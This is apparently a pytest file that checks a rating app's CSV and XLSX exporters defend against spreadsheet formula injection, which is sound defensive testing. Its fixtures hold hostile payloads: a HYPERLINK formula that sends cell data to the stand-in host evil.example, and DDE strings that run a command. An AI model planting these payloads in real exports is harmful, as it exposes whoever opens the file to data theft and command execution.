"""Spreadsheet formula injection: staff's texts that start like a formula stay text.

A campaign whose department name, category, item text, dimension name, rater group name and
title start with ``=``, ``+``, ``-`` or ``@`` is exported by every exporter: the results as CSV
and XLSX (console downloads and ``pingyi results``) and the raw evaluations as CSV and XLSX
(``pingyi evaluations export``). No XLSX cell is a formula and every text reads back as
typed; no CSV cell starts with a formula sign unless it is a plain number.
"""

import csv
import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
from sqlalchemy.orm import Session

from app.campaigns.models import Campaign
from app.reports import cells, xlsx
from app.results import export, raw_export
from app.results import service as results_service
from tests.factories import make_campaign, make_department, small_questionnaire, tally
from tests.results.helpers import rate

DEPARTMENT = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
CATEGORY = "=cmd|' /C calc'!A0"
ITEM = "+1+cmd|' /C calc'!A0"
DIMENSION = "-2+3+cmd|' /C calc'!A0"
GROUP = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "=1+2"
DEPARTMENT_CODE = "-A1"
TEXTS = {DEPARTMENT, CATEGORY, ITEM, DIMENSION, GROUP}
DANGEROUS_STARTS = tuple("=+-@\t\r")


def hostile_campaign(session: Session) -> Campaign:
    """One department rated by three citizens (threshold 3), so its figures are shown;
    closed and counted."""
    questionnaire = small_questionnaire(
        rater_groups=[
            {"key": "citizens", "name": {"zh": GROUP, "en": GROUP}},
            {"key": "enterprises", "name": {"zh": "企业", "en": "Enterprises"}},
        ],
        dimensions=[
            {"id": "attitude", "name": {"zh": DIMENSION, "en": DIMENSION}},
            {"id": "efficiency", "name": {"zh": "办事效率", "en": "Efficiency"}},
        ],
        items=[
            {
                "id": "courtesy",
                "dimension": "attitude",
                "scale": "five_level",
                "text": {"zh": ITEM, "en": ITEM},
            },
            {
                "id": "speed",
                "dimension": "efficiency",
                "scale": "three_level",
                "text": {"zh": "办事快捷", "en": "Quick"},
            },
            {
                "id": "overall",
                "dimension": "attitude",
                "scale": "five_level",
                "scored": False,
                "text": {"zh": "总体印象", "en": "Overall impression"},
            },
        ],
    )
    department = make_department(session, code=DEPARTMENT_CODE, name=DEPARTMENT, category=CATEGORY)
    campaign = make_campaign(
        session,
        questionnaire=questionnaire,
        groups={"citizens": 1.0, "enterprises": 1.0},
        departments=[department],
        threshold=3,
    )
    campaign.title_zh = TITLE
    campaign.starts_on = None
    rate(session, campaign, "citizens", [(5, 3, 4), (4, 2, 4), (3, 1, 3)], 0)
    tally(session, campaign)
    return campaign


def results_csv(session: Session, campaign: Campaign) -> list[list[str]]:
    results = results_service.campaign_results(session, campaign, "zh_CN")
    text = "".join(export.csv_lines(results)).removeprefix(export.BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text, newline="")))


def results_xlsx(session: Session, campaign: Campaign) -> Any:
    results = results_service.campaign_results(session, campaign, "zh_CN")
    stream = io.BytesIO()
    xlsx.write_xlsx(results, stream)
    return load_workbook(io.BytesIO(stream.getvalue()))  # not read-only: data types kept


def raw(session: Session, campaign: Campaign, fmt: raw_export.RawFormat) -> bytes:
    out = io.BytesIO()
    raw_export.write_raw_evaluations(session, campaign, fmt, out)
    return out.getvalue()


def raw_csv(session: Session, campaign: Campaign) -> list[list[str]]:
    text = raw(session, campaign, "csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def raw_xlsx(session: Session, campaign: Campaign) -> Any:
    return load_workbook(io.BytesIO(raw(session, campaign, "xlsx")))


def assert_csv_is_safe(rows: list[list[str]], expected_texts: set[str]) -> None:
    found = {cell for row in rows for cell in row}
    for text in expected_texts:
        assert "'" + text in found, text
        assert text not in found, text
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS_STARTS):
                float(cell)  # only a plain number may start with a sign


def assert_xlsx_is_safe(workbook: Any, expected_texts: set[str]) -> None:
    values: set[object] = set()
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (worksheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_STARTS):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (worksheet.title, cell.coordinate)
                values.add(cell.value)
    assert expected_texts <= values, expected_texts - values


class TestResultsCsv:
    def test_formula_leading_texts_get_a_single_quote(self, session: Session) -> None:
        rows = results_csv(session, hostile_campaign(session))

        assert_csv_is_safe(rows, TEXTS | {DEPARTMENT_CODE})
        department_rows = [row for row in rows[1:] if row[2] == "'" + DEPARTMENT]
        assert department_rows
        assert all(
            row[1:4] == ["'-A1", "'" + DEPARTMENT, "'" + CATEGORY] for row in department_rows
        )


class TestResultsXlsx:
    def test_no_cell_is_a_formula_and_texts_read_back_as_typed(self, session: Session) -> None:
        workbook = results_xlsx(session, hostile_campaign(session))

        assert_xlsx_is_safe(workbook, TEXTS | {DEPARTMENT_CODE, TITLE})

    def test_figures_stay_numbers(self, session: Session) -> None:
        workbook = results_xlsx(session, hostile_campaign(session))

        numbers = [
            cell.value
            for worksheet in workbook.worksheets
            for row in worksheet.iter_rows()
            for cell in row
            if cell.data_type == "n" and cell.value is not None
        ]
        assert numbers
        assert all(isinstance(value, (int, float)) for value in numbers)


class TestRawCsv:
    def test_formula_leading_names_get_a_single_quote(self, session: Session) -> None:
        rows = raw_csv(session, hostile_campaign(session))

        assert_csv_is_safe(rows, {DEPARTMENT, GROUP, DEPARTMENT_CODE})
        assert rows[1][:3] == ["'-A1", "'" + DEPARTMENT, "'" + GROUP]
        assert len(rows) == 4


class TestRawXlsx:
    def test_no_cell_is_a_formula_and_names_read_back_as_typed(self, session: Session) -> None:
        workbook = raw_xlsx(session, hostile_campaign(session))

        assert_xlsx_is_safe(workbook, {DEPARTMENT, GROUP, DEPARTMENT_CODE})
        rows = list(workbook.worksheets[0].iter_rows(values_only=True))
        assert rows[1][:3] == (DEPARTMENT_CODE, DEPARTMENT, GROUP)
        assert all(isinstance(level, int) for row in rows[1:] for level in row[3:5])


class TestCells:
    @pytest.mark.parametrize(
        "text",
        [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\uff1d1+1",  # full-width equals sign
            "-",
            "=",
        ],
    )
    def test_formula_leading_csv_text_gets_a_single_quote(self, text: str) -> None:
        assert cells.csv_text(text) == "'" + text

    @pytest.mark.parametrize("text", ["-0.5", "+3", "-12", "-1.5e3", "", "市住建局", "a=1", "'=1"])
    def test_numbers_and_other_text_are_unchanged_in_csv(self, text: str) -> None:
        assert cells.csv_text(text) == text

    def test_xlsx_keeps_numbers_and_writes_text_as_strings(self) -> None:
        workbook = Workbook(write_only=True)
        worksheet = workbook.create_sheet("cells")
        row = cells.xlsx_row(worksheet, [-1.5, 0, 3, "plain", "=1+1", "#REF!", "-", None])
        worksheet.append(row)
        stream = io.BytesIO()
        workbook.save(stream)

        read = load_workbook(io.BytesIO(stream.getvalue()))["cells"]
        values = [cell.value for cell in next(read.iter_rows())]
        types = [cell.data_type for cell in next(read.iter_rows())]
        assert values == [-1.5, 0, 3, "plain", "=1+1", "#REF!", "-"]
        assert types == ["n", "n", "n", "s", "s", "s", "s"]
        assert row[:4] == [-1.5, 0, 3, "plain"]  # passed through, not wrapped
